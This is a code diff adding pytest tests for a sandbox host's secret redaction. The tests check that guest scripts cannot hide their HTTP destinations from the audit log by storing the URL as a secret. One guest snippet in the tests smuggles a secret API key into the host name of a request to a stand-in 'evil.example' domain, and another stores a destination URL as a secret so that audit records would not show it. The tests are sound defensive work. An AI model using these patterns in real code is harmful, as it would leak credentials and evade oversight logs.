@@ -105,3 +105,54 @@ def test_without_redaction_it_would_be_everywhere(invoke, leaky, stubs, monkeypa
     )
     for part in ("logs", "writes", "error"):
         assert KEY in json.dumps(report[part], ensure_ascii=False)
+
+
+HIDING = """\
+Secrets.set("token", "https://api.acme.example/v1/collect");
+Http.get("https://api.acme.example/v1/collect/x");
+Http.post("https://api.acme.example/v1/collect", {});
+throw new Error("https://api.acme.example/v1/collect");
+"""
+
+
+@pytest.fixture
+def hidden(backfill, guest, stubs, state):
+    """The report and the audit of a run that sets the URL it sends to as a secret."""
+
+    def run():
+        stub = stubs({"url": "https://api.acme.example/*"})
+        path = guest(HIDING, permissions=GRANTED)
+        ran = backfill("invoke", path, "POST /run", "--stub", stub, "--state", state, "--json")
+        audit = map(json.loads, backfill("audit", "export", "--state", state).out.splitlines())
+        return ran.report, [one["resource"] for one in audit if one.get("capability") == "http"]
+
+    return run
+
+
+def test_a_guest_cannot_hide_the_host_it_sends_to_by_setting_it_as_a_secret(hidden):
+    report, audited = hidden()
+    shown = [call["resource"] for call in report["calls"] if call["capability"] == "http"]
+    sent = ["https://api.acme.example[secret:token]/x", "https://api.acme.example[secret:token]"]
+    assert shown == audited == sent
+    assert [write["id"] for write in report["writes"] if write["kind"] == "http"] == sent[1:]
+    assert report["error"]["message"] == sent[1]
+
+
+def test_without_that_rule_no_record_would_say_where_it_sent_to(hidden, monkeypatch):
+    """The guard, removed."""
+    monkeypatch.setattr("sandbox_host.redaction.Redactor.keep_readable", lambda self, hosts: None)
+    _, audited = hidden()
+    assert audited == ["[secret:token]/x", "[secret:token]"]
+
+
+def test_a_secret_in_the_host_of_a_call_is_hidden_up_to_what_the_manifest_names(invoke, guest, stubs):
+    body = 'const key = Secrets.get("api_key"); Http.get(`https://${key}.acme.example/`);'
+    body += 'try { Http.get(`https://${key}.evil.` + "example/"); } catch {}'
+    granted = {"http": ["https://*.acme.example/*"], "secrets": {"api_key": ["read"]}}
+    stub = stubs({"url": "https://*"})
+    report = invoke(
+        guest(body, permissions=granted), "POST /run", "--secret", "api_key=sk-live-51h", "--stub", stub
+    )
+    resources = [call["resource"] for call in report["calls"] if call["capability"] == "http"]
+    assert resources == ["https://[secret:api_key].acme.example/", "https://[secret:api_key].evil.example/"]
+    assert "sk-live" not in json.dumps(report)
